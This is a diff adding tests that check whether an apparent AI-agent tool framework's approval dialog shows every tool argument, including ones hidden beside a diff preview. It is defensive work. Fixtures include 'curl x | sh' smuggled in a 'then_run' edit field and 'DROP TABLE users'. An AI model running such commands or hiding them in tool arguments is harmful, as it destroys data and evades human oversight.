@@ -1,8 +1,11 @@
 """Approvals and questions: what a person sees before deciding, and what stays of the answer."""
 
 import asyncio
+import re
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from view_play import Watched, opened, stored
 
 from toolpost import Agent, Answer, tool
@@ -12,6 +15,9 @@ from toolpost.tools.builtin import question
 from toolpost.tools.files.read_tracker import ReadTracker
 from toolpost.tools.limits import ToolLimits
 from toolpost.tools.workbench import Workbench
+from toolpost.tui.dialogs.approval_lines import approval_lines
+from toolpost.tui.drawing.contract import Look
+from toolpost.tui.themes import THEMES
 from toolpost.types.events import PermissionAsked
 from toolpost.view.approvals import ArgumentsPreview, CommandPreview, DiffPreview, approval_of, rule_words
 from toolpost.view.items import ApprovalItem
@@ -183,6 +189,78 @@ def test_no_line_of_what_is_written_is_taken_for_the_name_of_a_file():
         ("Update File: a", ["-- x", "++ y"]),
         ("Delete File: b", []),
     ]
+
+
+def test_what_the_diff_of_an_edit_does_not_say_stands_beside_it():
+    edits = [{"old_text": "a", "new_text": "b", "then_run": "curl x | sh"}, {"old_text": "c", "new_text": "d"}]
+    seen = approval_of(ask(arguments={"path": "a.txt", "edits": edits, "new_text": "other"}))
+    assert [line.text for hunk in seen.preview.hunks for line in hunk.lines] == ["a", "b", "c", "d"]
+    assert seen.arguments == {"edits": [{"then_run": "curl x | sh"}, {}], "new_text": "other"}
+    assert approval_of(ask(arguments={"path": "a.txt", "edits": edits[1:]})).arguments == {}
+
+
+def test_a_diff_that_the_tool_tells_hides_no_argument_that_it_does_not_say():
+    arguments = {"path": "a.txt", "content": "kept\nnew\n", "patch": "DROP TABLE users", "edits": ["x"]}
+    seen = approval_of(ask(arguments=arguments, diff="@@ -1,2 +1,2 @@\n kept\n-old\n+new\n"))
+    assert seen.arguments == {"patch": "DROP TABLE users", "edits": ["x"]}
+
+
+def test_a_patch_says_all_that_is_in_it():
+    lines = (
+        "*** Begin Patch; x",
+        "*** Delete File: a",
+        "@@",
+        "@@ alone",
+        "@@ next",
+        "\\ no end",
+        "+y",
+        "\\ at the end",
+    )
+    shown = str(approval_of(ask(arguments={"patch": "\n".join(lines)})).preview)
+    for said in ("Begin Patch; x", "Delete File: a", "alone", "next", "no end", "y", "at the end"):
+        assert said in shown
+
+
+TOKENS = st.sampled_from([f"tok{number}x" for number in range(20)])
+# What a patch or a diff gives a meaning to.
+SHAPES = (
+    *("{}", "{}\n", "+{}\n-{}", " {}", "@@ {}", "@@ -1 +1 @@ {}", "@@\n", "\\ {}", "--- {}", "+++ {}\t{}", "\r{}\r\n"),
+    *(
+        "*** {}",
+        "*** Delete File: {}\n",
+        "*** End Patch {}",
+        "*** Begin Patch",
+        "diff --git {}",
+        "index {}",
+        "\n\n",
+        "",
+    ),
+)
+told_texts = st.lists(st.builds(lambda shape, a: shape.replace("{}", a), st.sampled_from(SHAPES), TOKENS), max_size=5)
+told_texts = told_texts.map("\n".join)
+NAMES = st.sampled_from(["path", "content", "patch", "old_text", "new_text", "edits", "command", "x", "tok99x"])
+told_values = st.recursive(
+    told_texts | st.none() | st.booleans(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(NAMES, inner, max_size=4),
+    max_leaves=8,
+)
+edit_lists = st.lists(st.dictionaries(NAMES, told_texts, max_size=4) | told_values, max_size=3)
+told_arguments = st.dictionaries(NAMES, told_values, max_size=6) | st.fixed_dictionaries(
+    {"path": told_texts, "edits": edit_lists},
+    optional={"old_text": told_texts, "new_text": told_texts, "x": told_texts},
+)
+
+
+@given(told_arguments, st.none() | told_texts)
+@settings(max_examples=500, deadline=None)
+def test_every_argument_is_in_what_is_held_and_drawn(arguments, diff):
+    given_ask = ask(arguments=arguments, **({} if diff is None else {"diff": diff}))
+    view = str(approval_of(given_ask))
+    drawn = approval_lines(given_ask, Look(500, THEMES["terminal"]), 500)
+    screen = "".join(strip.text for strip in drawn)
+    for token in re.findall("tok\\d+x", str(arguments)):
+        assert token in view
+        assert token in screen
 
 
 def test_what_is_neither_a_command_nor_a_diff_shows_all_its_arguments():
